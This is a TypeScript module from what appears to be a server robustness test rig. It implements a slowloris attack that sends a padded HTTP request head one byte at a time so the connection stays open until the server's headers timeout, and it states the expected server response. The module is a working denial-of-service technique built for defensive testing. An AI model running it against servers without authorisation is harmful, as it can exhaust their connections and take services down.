// slowloris: a request line and headers sent `bytesPerInterval` bytes every `intervalMs`; the head
// is padded with header lines so it cannot end before the hold bound: only a headers timeout frees
// the connection.
import { requestHead, sendPath } from '../attackRequests.ts';
import { attackExchange } from '../attackSocket.ts';
import { defineAttack, MAX_HOLD_MS } from '../defineAttack.ts';

export const slowloris = defineAttack({
  name: 'slowloris',
  family: 'slow',
  description: 'a request head sent `bytesPerInterval` bytes every `intervalMs` (never finished before `holdMs`)',
  expected: "408 or a close within the agent's headers timeout (5 s for the reference agent), before the hold bound",
  defaults: { bytesPerInterval: 1, intervalMs: 250, holdMs: 30_000 },
  bounds: { bytesPerInterval: [1, 65_536], intervalMs: [1, 60_000], holdMs: [1, MAX_HOLD_MS] },
  async prepare(target, params) {
    const needed = Math.ceil(params.holdMs / params.intervalMs + 1) * params.bytesPerInterval;
    let extra = '';
    for (let i = 0; extra.length < needed; i++) extra += `x-a2a-rig-slow-${i}: ${'l'.repeat(64)}\r\n`;
    // Small header lines: each stays under any per-line limit, so only time can refuse it.
    const head = Buffer.from(requestHead(target, 'POST', sendPath(target), { contentLength: 2, extra }), 'latin1');
    return (_i, signal) =>
      attackExchange(target, signal, { holdMs: params.holdMs, what: 'slowloris head' }, async (io) => {
        for (let sent = 0; sent < head.length; sent += params.bytesPerInterval) {
          if (!(await io.write(head.subarray(sent, sent + params.bytesPerInterval)))) return;
          if (!(await io.sleep(params.intervalMs))) return;
        }
        await io.write('{}');
      });
  },
});
